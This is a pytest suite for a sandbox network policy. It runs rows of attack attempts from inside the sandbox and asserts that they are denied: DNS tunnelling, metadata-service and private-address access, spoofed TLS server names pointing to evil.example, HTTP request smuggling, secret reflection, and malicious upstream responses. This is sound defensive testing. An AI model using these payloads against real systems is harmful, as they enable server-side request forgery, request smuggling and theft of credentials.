"""Attacks on a network policy from inside and from outside, one row each; the first rows are controls that succeed.

Every row runs in one sandbox, one after the other. What is matched is what the program inside saw, followed by what its
result says was denied.
"""

import asyncio
import base64
import json
import re
import socket
import struct
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from support.upstream import Upstream, running_upstream

from cove import AsyncSandbox, NetworkPolicy, NetworkRule, Secret

SECRET = "s3cr3t-t0ken-that-never-goes-in"

PRELUDE = """
import json, os, socket, ssl, struct, sys
globals().update(json.loads(os.environ["PORTS"]))

def connect(host, port):
    return socket.create_connection((host, port), timeout=20)

def read(sock):
    got = b""
    while more := sock.recv(65536):
        got += more
    return got

def ask(host, port, data):
    with connect(host, port) as sock:
        sock.sendall(data)
        print(read(sock))

def get(host, port, path="/", head="GET {} HTTP/1.1\\r\\nHost: {}:{}\\r\\nConnection: close\\r\\n\\r\\n"):
    ask(host, port, head.format(path, host, port).encode())

def secure(name, host, port):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(connect(host, port), server_hostname=name)

def send(host, port, text):
    data = text.replace("{}", f"{host}:{port}").encode()
    with (secure(host, host, port) if port in (API, KEYED) else connect(host, port)) as sock:
        sock.sendall(data)
        print(read(sock))

def hello(*names, extensions=b""):
    listed = b"".join(b"\\0" + struct.pack("!H", len(name)) + name for name in names)
    if names:
        extensions += struct.pack("!HHH", 0, len(listed) + 2, len(listed)) + listed
    body = b"\\3\\3" + bytes(32) + b"\\0" + b"\\0\\2\\x13\\1" + b"\\1\\0"
    body += struct.pack("!H", len(extensions)) + extensions
    return b"\\1" + struct.pack("!I", len(body))[1:] + body

def records(message, size=16384):
    parts = [message[start:start + size] for start in range(0, len(message), size)]
    return b"".join(b"\\x16\\3\\1" + struct.pack("!H", len(part)) + part for part in parts)

def query(name, kind, server=("127.0.0.53", 53)):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    with socket.socket(type=socket.SOCK_DGRAM) as sock:
        sock.settimeout(20)
        sock.sendto(b"ab\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0" + struct.pack("!HH", kind, 1), server)
        reply = sock.recv(4096)
    print("rcode", reply[3] & 15, "answers", int.from_bytes(reply[6:8], "big"))

def netlink(kind, flags, data):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.bind((0, 0))
        sock.send(struct.pack("=IHHII", 16 + len(data), kind, flags | 5, 1, 0) + data)
        code = -struct.unpack_from("=i", sock.recv(4096), 16)[0]
    print(os.strerror(code))

def run(code):
    try:
        exec(code)
    except OSError as error:
        print(type(error).__name__, error)

run(sys.argv[1])
"""


@dataclass(frozen=True)
class Attack:
    """`code` is run inside; `outcome` is searched for in what it saw and what was denied."""

    about: str
    code: str
    outcome: str


NO_PORT = "ConnectionRefusedError|denied: port [0-9]+ of open.example is not allowed"  # without and with nf_tables
GONE = "ConnectionResetError|ConnectionRefusedError|unreachable"
ALERT = r"access.denied|b'\\x15\\x03\\x03\\x00\\x02\\x02\\x31'|b'\\x15\\x03\\x03\\x00\\x02\\x021'"

REFUSED = r"HTTP/1\.1 (400|403) "


def request(about: str, *lines: str, outcome: str = REFUSED, to: str = "raw", body: str = "") -> Attack:
    """A request of these lines and this body to `to`.example; `{}` is the Host that would be right."""
    text = "\r\n".join((*lines, "", body))
    return Attack(about, f"send('{to}.example', {to.upper()}, {text!r})", outcome)


def smuggle(about: str, *headers: str, body: str = "0\r\n\r\n") -> Attack:
    """A request with two lengths: by one of them, another request is behind it."""
    hidden = "GET /smuggled HTTP/1.1\r\nHost: {}\r\n\r\n"
    return request(about, "POST / HTTP/1.1", "Host: {}", *headers, body=body + hidden)


CLOSE = "Connection: close"

CONTROLS = [
    Attack("an allowed name is reached", "get('open.example', OPEN)", "200 OK.*hello"),
    Attack("a name below a wildcard is known", "query('a.wild.example', 1)", "rcode 0 answers 1"),
    Attack(
        "the right server name passes on 443, to where nothing listens",
        "ask('web.example', 443, records(hello(b'WEB.example')))",
        "denied: web.example:443: Connection refused",
    ),
    Attack("an intercepted request passes", "get('raw.example', RAW)", "200 OK"),
    request(
        "an intercepted request passes over TLS",
        *("GET /v1/x HTTP/1.1", "Host: {}", CLOSE),
        to="api",
        outcome="200 OK",
    ),
    request(
        "a WebSocket passes by rule",
        *("GET / HTTP/1.1", "Host: {}", "Connection: Upgrade", "Upgrade: websocket"),
        to="ws",
        outcome="101 .*raw from here",
    ),
]

NAMES = [
    Attack("a name that no rule has", "query('other.example', 1)", r"rcode 3 answers 0\ndenied: other\.example"),
    Attack("a tunnel in names", "query('c2VjcmV0.tunnel.example', 16)", "rcode 3 answers 0"),
    Attack("a tunnel below an allowed name", "query('c2VjcmV0.open.example', 1)", "rcode 3 answers 0"),
    Attack("an IPv6 address of an allowed name", "query('open.example', 28)", "rcode 0 answers 0"),
    Attack("TXT of an allowed name", "query('open.example', 16)", "rcode 0 answers 0"),
    Attack("keys for ECH (HTTPS record)", "query('open.example', 65)", "rcode 0 answers 0"),
    Attack("another name server", "query('open.example', 1, ('8.8.8.8', 53))", "unreachable"),
    Attack("DNS over TLS at an allowed name", "connect('open.example', 853)", NO_PORT),
    Attack("DNS over TLS elsewhere", "connect('8.8.8.8', 853)", "unreachable"),
    Attack("the name of this host", "query(socket.gethostname(), 1)", "rcode 3"),
    Attack("the host's localhost by name", "query('localhost', 1)", "rcode 3"),
]

ADDRESSES = [
    Attack("a public address", "connect('8.8.8.8', 443)", "unreachable"),
    Attack("the metadata service", "connect('169.254.169.254', 80)", "unreachable"),
    Attack("RFC 1918", "connect('10.0.0.1', 443)", "unreachable"),
    Attack("the host's loopback, on a port of the policy", "get('127.0.0.1', OPEN)", GONE),
    Attack("the host's loopback, on another port", "connect('127.0.0.1', 9)", "ConnectionRefusedError"),
    Attack("the host's loopback by a mapped address", "get('::ffff:127.0.0.1', OPEN)", GONE),
    Attack("the host's loopback by IPv6", "get('::1', OPEN)", "ConnectionRefusedError"),
    Attack("a public address by IPv6", "connect('2001:4860:4860::8888', 443)", "unreachable"),
    Attack("a synthetic address that no name has, on 443", "ask('198.19.200.200', 443, records(hello(b'x')))", ALERT),
    Attack("a synthetic address that no name has", "get('198.19.200.200', OPEN)", "has no name"),
    Attack("the sandbox's own synthetic address", "get('198.18.0.1', OPEN)", "has no name|Refused"),
]

PORTS = [
    Attack("mail", "connect('open.example', 25)", NO_PORT),
    Attack("a port of another name", "get('open.example', RAW)", "denied: port [0-9]+ of open.example is not allowed"),
    Attack("a port that is not in the policy", "connect('open.example', 22)", NO_PORT),
]

PROTOCOLS = [
    Attack(
        "UDP and QUIC",
        "s = socket.socket(type=socket.SOCK_DGRAM); s.connect(('web.example', 443)); s.send(b'x'); s.recv(1)",
        "ConnectionRefusedError",
    ),
    Attack("ICMP", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)", "PermissionError"),
    Attack("raw IP", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)", "PermissionError"),
    Attack("packets", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", "PermissionError"),
    Attack("SCTP", "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)", "OSError|PermissionError"),
    Attack("a route", "netlink(24, 0x400, struct.pack('=8BI', 2, 0, 0, 0, 254, 4, 0, 1, 0))", "not permitted"),
    Attack(
        "an address",
        "netlink(20, 0x400, struct.pack('=4BI', 2, 32, 0, 0, 1) + struct.pack('=HH4B', 8, 2, 8, 8, 8, 8))",
        "not permitted",
    ),
    Attack("a link taken down", "netlink(16, 0, struct.pack('=BBHiII', 0, 0, 0, 1, 0, 1))", "not permitted"),
    Attack(
        "the name server's place", "socket.socket(type=socket.SOCK_DGRAM).bind(('127.0.0.53', 53))", "in use|denied"
    ),
    Attack(
        "the name server's place, shared",
        "s = socket.socket(type=socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, 15, 1); s.bind(('127.0.0.53', 53))",
        "in use|denied",
    ),
    Attack("the place of 443", "socket.socket().bind(('0.0.0.0', 443))", "in use|denied"),
    Attack(
        "the place of a listener, shared",
        "s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, 15, 1); s.bind(('0.0.0.0', OPEN)); s.listen()\n"
        "get('open.example', OPEN)",
        "in use|200 OK.*hello",
    ),
    Attack(
        "a listener's place at one synthetic address",
        "address = socket.gethostbyname('open.example'); s = socket.socket()\n"
        "s.setsockopt(socket.SOL_SOCKET, 2, 1); s.bind((address, OPEN)); s.listen()\n"
        "get('open.example', OPEN)",
        "in use|200 OK.*hello",
    ),
]

TLS = [
    Attack(
        "another server name", "ask('web.example', 443, records(hello(b'evil.example')))", f"(?s){ALERT}.*names evil"
    ),
    Attack("no server name", "ask('web.example', 443, records(hello()))", f"(?s){ALERT}.*names no server"),
    Attack("two server names", "ask('web.example', 443, records(hello(b'web.example', b'evil.example')))", ALERT),
    Attack(
        "another server name after a first extension that has the right one",
        "first = struct.pack('!HHHBH', 0, 16, 14, 0, 11) + b'web.example'\n"
        "ask('web.example', 443, records(hello(b'evil.example', extensions=first)))",
        ALERT,
    ),
    Attack(
        "a hidden name (ECH): the outer one counts",
        "hidden = struct.pack('!HH', 0xfe0d, 8) + bytes(8)\n"
        "ask('web.example', 443, records(hello(b'front.example', extensions=hidden)))",
        f"(?s){ALERT}.*names front",
    ),
    Attack(
        "another server name in 30 records",
        "m = hello(b'evil.example'); ask('web.example', 443, records(m, len(m) // 30))",
        ALERT,
    ),
    Attack(
        "a hello in a thousand records",
        "ask('web.example', 443, records(hello(b'web.example', extensions=bytes(1000)), 1))",
        ALERT,
    ),
    Attack("no TLS on 443", "ask('web.example', 443, b'GET / HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n')", ALERT),
    Attack("SSH on 443", "ask('web.example', 443, b'SSH-2.0-x\\r\\n')", ALERT),
    Attack(
        "another server name where TLS ends at the host",
        "secure('evil.example', 'api.example', API)",
        "(?s)SSL.*denied: .* names another server",
    ),
    Attack(
        "no server name where TLS ends at the host",
        "secure(None, 'api.example', API)",
        "(?s)SSL.*denied: .* names another server",
    ),
]


REQUESTS = [
    request(
        "a Host of another name (fronting)",
        *("GET / HTTP/1.1", "Host: evil.example", CLOSE),
        outcome="403.*the connection for raw.example",
    ),
    request("no Host in HTTP/1.0", "GET / HTTP/1.0", outcome="403.*no host"),
    request("two Hosts", "GET / HTTP/1.1", "Host: {}", "Host: evil.example"),
    request("a target with another authority", "GET http://evil.example/ HTTP/1.1", "Host: {}"),
    request("a target with another scheme", "GET https://evil.example/ HTTP/1.1", "Host: {}"),
    request("CONNECT", "CONNECT evil.example:443 HTTP/1.1", "Host: {}"),
    request(
        "a method that no rule has",
        *("DELETE / HTTP/1.1", "Host: {}", CLOSE),
        outcome="403.*DELETE raw.example is not allowed",
    ),
    request("a method told by a header", "DELETE / HTTP/1.1", "Host: {}", "X-HTTP-Method-Override: GET", CLOSE),
    request("HTTP/2 without TLS", "PRI * HTTP/2.0", "", "SM", ""),
    request(
        "HTTP/2 by upgrade",
        *("GET / HTTP/1.1", "Host: {}", "Connection: Upgrade, HTTP2-Settings, close", "Upgrade: h2c"),
        outcome="403.*h2c is not allowed",
    ),
    request(
        "HTTP/2 by upgrade where WebSockets may",
        *("GET / HTTP/1.1", "Host: {}", "Connection: Upgrade, close", "Upgrade: h2c"),
        to="ws",
        outcome="403.*h2c is not allowed",
    ),
    request(
        "two protocols to upgrade to",
        *("GET / HTTP/1.1", "Host: {}", "Connection: Upgrade, close", "Upgrade: websocket, h2c"),
        to="ws",
    ),
    request(
        "a WebSocket that no rule allows",
        *("GET / HTTP/1.1", "Host: {}", "Connection: Upgrade, close", "Upgrade: websocket"),
        outcome="403.*websocket=True",
    ),
    smuggle("a length and chunks", "Content-Length: 4", "Transfer-Encoding: chunked"),
    smuggle("two lengths", "Content-Length: 0", "Content-Length: 44", body=""),
    smuggle("two lengths in one", "Content-Length: 0, 44", body=""),
    smuggle("a length with a sign", "Content-Length: +0", body=""),
    smuggle("chunks by another name", "Transfer-Encoding: xchunked"),
    smuggle("chunks before a coding", "Transfer-Encoding: chunked, identity"),
    smuggle("chunks in HTTP/1.1 twice", "Transfer-Encoding: chunked", "Transfer-Encoding: chunked"),
    smuggle("a space before the colon", "Transfer-Encoding : chunked"),
    smuggle("a folded header", "X: a", " Transfer-Encoding: chunked"),
    smuggle("a header behind a bare line feed", "X: a\nTransfer-Encoding: chunked"),
    request(
        "a chunk size that overflows",
        *("POST / HTTP/1.1", "Host: {}", "Transfer-Encoding: chunked"),
        body="10000000000000000\r\nGET /smuggled HTTP/1.1\r\n",
        outcome=f"{REFUSED}|b''|{GONE}",
    ),
    request(
        "a request behind one that is refused",
        *("DELETE / HTTP/1.1", "Host: {}", "", "GET / HTTP/1.1", "Host: evil.example", CLOSE),
        outcome="403.*DELETE.*403.*evil.example",
    ),
    request(
        "a head without an end",
        *("GET / HTTP/1.1", "X: " + "x" * 100_000),
        outcome=f"HTTP/1.1 431|{GONE}|BrokenPipe",
    ),
    request(
        "a path that means another",
        *("GET /v1/..%2fv2 HTTP/1.1", "Host: {}", CLOSE),
        to="api",
        outcome="403.*two ways",
    ),
    request(
        "a path that is longer than any line of the log",
        *("GET /v2/" + '"' * 60_000 + " HTTP/1.1", "Host: {}", CLOSE),
        to="api",
        outcome="403",
    ),
]

SECRETS = [
    request(
        "a secret in the answer, in pieces and in base64",
        *("GET / HTTP/1.1", "Host: {}", CLOSE),
        to="keyed",
        outcome=r"\*{31}.*\*{31}.*\*{42}",
    ),
    request("a secret sent back by TRACE", "TRACE / HTTP/1.1", "Host: {}", CLOSE, to="keyed", outcome=r"\*{31}"),
    request("a secret for another name of its address", "GET / HTTP/1.1", "Host: evil.example", CLOSE, to="keyed"),
    Attack("a secret over a connection without TLS", "get('keyed.example', KEYED)", "403.*over TLS only"),
]

REDIRECTS = [
    Attack(
        f"a redirect to {where}",
        f"os.execvp('curl', ['curl', '-sSL', '--max-time', '20', f'http://redirect.example:{{REDIRECT}}/{path}'])",
        outcome,
    )
    for where, path, outcome in [
        ("the metadata service", "metadata", "(?i)couldn't connect|failed to connect|unreachable"),
        ("the host's loopback", "loopback", "(?i)reset by peer|couldn't connect"),
        ("a name that no rule has", "other", "Could not resolve host"),
        ("a name that leads inside", "trap", "private address|Recv failure|reset"),
    ]
]

# What an allowed name answers when its owner is an enemy: none is a way inside.
TRAPS = {
    "loopback": "127.0.0.1",
    "loopback of another number": "127.9.9.9",
    "10.0.0.0/8": "10.1.2.3",
    "172.16.0.0/12": "172.16.0.1",
    "192.168.0.0/16": "192.168.1.1",
    "the metadata service": "169.254.169.254",
    "carrier-grade NAT": "100.64.0.1",
    "multicast": "224.0.0.1",
    "broadcast": "255.255.255.255",
    "this host (0.0.0.0)": "0.0.0.0",
    "protocol assignments": "192.0.0.8",
    "a synthetic address": "198.18.0.1",
    "IPv6 loopback": "::1",
    "unspecified IPv6": "::",
    "unique local IPv6": "fd00:ec2::254",
    "link-local IPv6": "fe80::1",
    "multicast IPv6": "ff02::1",
    "a mapped loopback": "::ffff:127.0.0.1",
    "a mapped metadata service": "::ffff:169.254.169.254",
    "a mapped private address": "::ffff:10.0.0.1",
    "a compatible address": "::127.0.0.1",
    "NAT64 of the loopback": "64:ff9b::7f00:1",
    "local NAT64 of a private address": "64:ff9b:1::a00:1",
    "6to4 of a private address": "2002:a00:1::",
    "Teredo": "2001:0:a00:1::",
}
LED_ASTRAY = [
    *(
        Attack(
            f"a name that leads to {what}",
            f"get('trap-{number}.example', OPEN)",
            "denied: .* is a (private|link-local)",
        )
        for number, what in enumerate(TRAPS)
    ),
    Attack("a name that is an alias of a private one", "get('alias.example', OPEN)", "denied: .* is a private"),
    Attack(
        "a name below a wildcard that leads inside", "query('inner.wild.example', 1)", r"rcode 3.*\n.*private address"
    ),
]

ATTACKS = [*CONTROLS, *NAMES, *ADDRESSES, *PORTS, *PROTOCOLS, *TLS, *REQUESTS, *SECRETS, *REDIRECTS, *LED_ASTRAY]

Answer = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
OK = b"HTTP/1.1 200 OK\r\n"


def say(*parts: bytes) -> Answer:
    """Send these; the connection is then closed."""

    async def answer(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        for part in parts:
            writer.write(part)
            await writer.drain()

    return answer


def without_end(first: bytes, then: bytes) -> Answer:
    async def answer(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(first)
        while True:
            writer.write(then)
            await writer.drain()

    return answer


async def break_off(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(OK + b"\r\nhalf of it")
    await writer.drain()
    writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    writer.transport.abort()


async def stall(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(OK + b"Content-Length: 10\r\n\r\nx")
    await reader.read()


BAD_ANSWER = "502.*gave no valid answer"
CUT = r"curl: \((18|52|55|56)\)"

# What a host outside answers a request that was judged: one whole answer goes inside, or an error.
HOSTILE_ANSWERS: Mapping[str, tuple[Answer, str]] = {
    "headers without end": (without_end(OK, b"a: b\r\n"), BAD_ANSWER),
    "a header without end": (without_end(OK + b"a: ", b"b" * 65536), BAD_ANSWER),
    "interim answers without end": (without_end(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 100), BAD_ANSWER),
    "trailers without end": (without_end(OK + b"Transfer-Encoding: chunked\r\n\r\n0\r\n", b"a: b\r\n"), CUT),
    "extensions of a chunk without end": (
        without_end(OK + b"Transfer-Encoding: chunked\r\n\r\n5;", b"a" * 65536),
        CUT,
    ),
    "a length and chunks": (say(OK + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"), BAD_ANSWER),
    "two lengths": (say(OK + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!"), BAD_ANSWER),
    "a coding that is none of ours": (say(OK + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"), BAD_ANSWER),
    "a size that is no number": (say(OK + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n"), CUT),
    "a size that overflows": (say(OK + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 17 + b"\r\nx"), CUT),
    "a NUL in a header": (say(OK + b"a: b\0c\r\nContent-Length: 0\r\n\r\n"), BAD_ANSWER),
    "a line break in a header": (say(OK + b"a: b\rX: y\r\nContent-Length: 0\r\n\r\n"), BAD_ANSWER),
    "another protocol": (say(b"SSH-2.0-OpenSSH_9.2\r\n"), BAD_ANSWER),
    "HTTP/0.9": (say(b"<html>"), BAD_ANSWER),
    "an upgrade that nobody asked for": (
        say(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nevil"),
        BAD_ANSWER,
    ),
    "nothing": (say(), BAD_ANSWER),
    "less than it says": (say(OK + b"Content-Length: 100\r\n\r\nhello"), CUT),
    "chunks that do not end": (say(OK + b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n"), CUT),
    "a break where only the end says how long it is": (break_off, CUT),
    "a body that stalls": (stall, r"curl: \(28\)"),
    "two answers at once": (
        say(OK + b"Content-Length: 5\r\n\r\nhello" + OK + b"Content-Length: 6\r\n\r\npoison"),
        "200 OK(?!.*poison).*hello",
    ),
}


@dataclass
class Outcomes:
    """What was seen inside, by attack and by hostile answer, and outside."""

    attacks: dict[str, str] = field(default_factory=dict)
    answers: dict[str, str] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)
    requests: list[bytes] = field(default_factory=list)
    egress: set[object] = field(default_factory=set)


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory: pytest.TempPathFactory, cove_home: Path) -> Outcomes:
    """All rows, run once."""
    with running_upstream(tmp_path_factory.mktemp("world")) as world, pytest.MonkeyPatch.context() as patch:
        patch.setenv("COVE_RESOLVER", world.resolver)
        patch.setenv("SSL_CERT_FILE", str(world.ca))
        patch.setenv("API_TOKEN", SECRET)
        seen = Outcomes(asked=world.asked, requests=world.requests)
        asyncio.run(run_all(world, seen))
        return seen


def hostile_name(number: int) -> str:
    return f"hostile-{number}.example"


async def run_all(world: Upstream, seen: Outcomes) -> None:
    ports = open_hosts(world)
    hostile = [
        (hostile_name(number), world.serve(answering(answer), hostile_name(number)))
        for number, (answer, _) in enumerate(HOSTILE_ANSWERS.values())
    ]
    async with AsyncSandbox.create(network=policy_for(ports, hostile)) as sandbox:
        env = {"PORTS": json.dumps(ports)}
        await sandbox.exec("getent hosts open.example")  # when there is an answer, the process has started
        seen.egress.add(sandbox._surfaces.egress._process)  # type: ignore[attr-defined]  # of the runtime's
        for attack in ATTACKS:
            result = await sandbox.exec(["python3", "-c", PRELUDE, attack.code], env=env, timeout=60)
            denied = "".join(f"\ndenied: {denial.reason}" for denial in result.denied)
            seen.attacks[attack.about] = (result.stdout + result.stderr).rstrip() + denied
        for about, (name, port) in zip(HOSTILE_ANSWERS, hostile, strict=True):
            result = await sandbox.exec(["curl", "-sSi", "--max-time", "3", f"http://{name}:{port}/"], timeout=60)
            seen.answers[about] = result.stdout + result.stderr
        seen.egress.add(sandbox._surfaces.egress._process)  # type: ignore[attr-defined]  # of the runtime's


def open_hosts(world: Upstream) -> dict[str, int]:
    """Start the world; returns the ports by the names that the rows have for them."""
    world.addresses |= {f"trap-{number}.example": [address] for number, address in enumerate(TRAPS.values())}
    world.addresses |= {
        "web.example": ["127.77.77.77"],
        "a.wild.example": ["8.8.8.8"],
        "inner.wild.example": ["10.0.0.1"],
    }
    world.aliases["alias.example"] = "trap-2.example"
    ports = {
        "OPEN": world.serve(keep_heads(world), "open.example"),
        "RAW": world.serve(keep_heads(world), "raw.example"),
        "API": world.serve(keep_heads(world), "api.example", tls=True),
        "WS": world.serve(switch, "ws.example"),
        "KEYED": world.serve(echo, "keyed.example", tls=True),
    }
    ports["REDIRECT"] = world.serve(redirecting(ports["OPEN"]), "redirect.example")
    return ports


def policy_for(ports: Mapping[str, int], hostile: list[tuple[str, int]]) -> NetworkPolicy:
    def rule(name: str, port: str, **fields: object) -> NetworkRule:
        return NetworkRule(f"{name}:{ports[port]}", private=True, **fields)  # type: ignore[arg-type]  # by NetworkRule

    return NetworkPolicy(
        allow=[
            NetworkRule("web.example", private=True),
            rule("open.example", "OPEN"),
            rule("redirect.example", "REDIRECT"),
            rule("raw.example", "RAW", methods=["GET", "POST"]),
            rule("api.example", "API", methods=["GET"], paths=["/v1/*"]),
            rule("ws.example", "WS", methods=["GET"], websocket=True),
            rule("keyed.example", "KEYED", inject={"Authorization": Secret("API_TOKEN", "Bearer {}")}),
            *(f"{name}:{ports['OPEN']}" for name in ("*.wild.example", "alias.example")),
            *(f"trap-{number}.example:{ports['OPEN']}" for number in range(len(TRAPS))),
            *(NetworkRule(f"{name}:{port}", private=True, methods=["GET"]) for name, port in hostile),
        ]
    )


def keep_heads(world: Upstream) -> Answer:
    """A server that reads bodies as HTTP frames them, and keeps the heads."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(asyncio.IncompleteReadError, OSError):
            while head := await reader.readuntil(b"\r\n\r\n"):
                world.requests.append(head)
                if b"transfer-encoding: chunked" in head.lower():
                    while size := int(await reader.readuntil(b"\r\n"), 16):
                        await reader.readexactly(size + 2)
                    await reader.readexactly(2)
                writer.write(OK + b"Content-Length: 5\r\n\r\nhello")
                if b"connection: close" in head.lower():
                    break
        writer.close()

    return serve


async def switch(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with suppress(asyncio.IncompleteReadError, OSError):
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 101 Switching\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nraw from here")
    writer.close()


async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Show a client its own head: as a header, cut in two, and in base64."""
    with suppress(asyncio.IncompleteReadError, OSError):
        head = await reader.readuntil(b"\r\n\r\n")
        value = next(line for line in head.split(b"\r\n") if line.lower().startswith(b"authorization"))
        writer.write(OK + b"X-Echo: %b\r\nConnection: close\r\n\r\n" % value)
        for part in (value[:30], value[30:], base64.b64encode(SECRET.encode())):
            writer.write(part)
            await writer.drain()
            await asyncio.sleep(0.01)  # a packet of its own
    writer.close()


def redirecting(port: int) -> Answer:
    targets = {
        b"/metadata": b"http://169.254.169.254/latest/meta-data/",
        b"/loopback": b"http://127.0.0.1:%d/" % port,
        b"/other": b"http://other.example/",
        b"/trap": b"http://trap-0.example:%d/" % port,
    }

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(asyncio.IncompleteReadError, OSError):
            path = (await reader.readuntil(b"\r\n\r\n")).split(b" ")[1]
            writer.write(b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: %b\r\n\r\n" % targets[path])
        writer.close()

    return serve


def answering(answer: Answer) -> Answer:
    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(asyncio.IncompleteReadError, OSError):
            await reader.readuntil(b"\r\n\r\n")
            await answer(reader, writer)
        writer.close()

    return serve


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.about)
def test_an_attack_from_inside_has_this_outcome(attack: Attack, outcomes: Outcomes) -> None:
    assert re.search(attack.outcome, outcomes.attacks[attack.about]), outcomes.attacks[attack.about][-2000:]


@pytest.mark.parametrize("about", HOSTILE_ANSWERS)
def test_a_hostile_answer_has_this_outcome(about: str, outcomes: Outcomes) -> None:
    assert re.search(HOSTILE_ANSWERS[about][1], outcomes.answers[about], re.DOTALL), outcomes.answers[about][-2000:]


def test_no_attack_shows_a_secret(outcomes: Outcomes) -> None:
    assert [about for about, seen in outcomes.attacks.items() if SECRET in seen] == []
    assert base64.b64encode(SECRET.encode()).decode() not in repr(outcomes.attacks)


def test_no_attack_ended_the_egress_process(outcomes: Outcomes) -> None:
    assert len(outcomes.egress) == 1


def test_no_request_was_smuggled(outcomes: Outcomes) -> None:
    assert [head for head in outcomes.requests if b"smuggled" in head or b"evil" in head or b"DELETE" in head] == []
    assert [head for head in outcomes.requests if SECRET.encode() in head] == []


def test_only_names_that_may_be_reached_were_asked_for(outcomes: Outcomes) -> None:
    allowed = {"open.example", "web.example", "raw.example", "api.example", "ws.example", "keyed.example"}
    allowed |= {"alias.example", "redirect.example", "a.wild.example", "inner.wild.example"}
    others = {name for name in outcomes.asked if name.partition("-")[0] not in ("trap", "hostile")}
    assert others <= allowed
